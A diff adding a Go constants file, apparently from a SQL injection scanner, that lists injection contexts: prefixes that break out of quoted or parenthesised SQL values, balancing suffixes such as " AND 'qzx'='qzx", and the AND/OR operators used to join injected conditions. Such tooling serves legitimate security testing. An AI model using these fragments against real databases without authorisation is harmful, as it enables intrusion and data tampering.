@@ -0,0 +1,26 @@
+package constant
+
+// InjectionContext describes how the original value is embedded in the SQL query.
+// Prefix closes the context so injected SQL is parsed as code, Balance is a
+// suffix that re-opens it when no comment can be used to cut off the query.
+type InjectionContext struct {
+	Name    string
+	Prefix  string
+	Balance string
+}
+
+var InjectionContexts = []InjectionContext{
+	{Name: "numeric", Prefix: "", Balance: ""},
+	{Name: "single quote", Prefix: "'", Balance: " AND 'qzx'='qzx"},
+	{Name: "double quote", Prefix: `"`, Balance: ` AND "qzx"="qzx`},
+	{Name: "parenthesized numeric", Prefix: ")", Balance: " AND (1=1"},
+	{Name: "parenthesized single quote", Prefix: "')", Balance: " AND ('qzx'='qzx"},
+	{Name: "parenthesized double quote", Prefix: `")`, Balance: ` AND ("qzx"="qzx`},
+	{Name: "double parenthesized single quote", Prefix: "'))", Balance: " AND (('qzx'='qzx"},
+	{Name: "LIKE single quote", Prefix: "%'", Balance: " AND '%'='"},
+	{Name: "LIKE double quote", Prefix: `%"`, Balance: ` AND "%"="`},
+}
+
+// LogicalOperators join injected conditions to the original WHERE clause. AND is
+// tried first because OR changes which rows the original query touches.
+var LogicalOperators = []string{"AND", "OR"}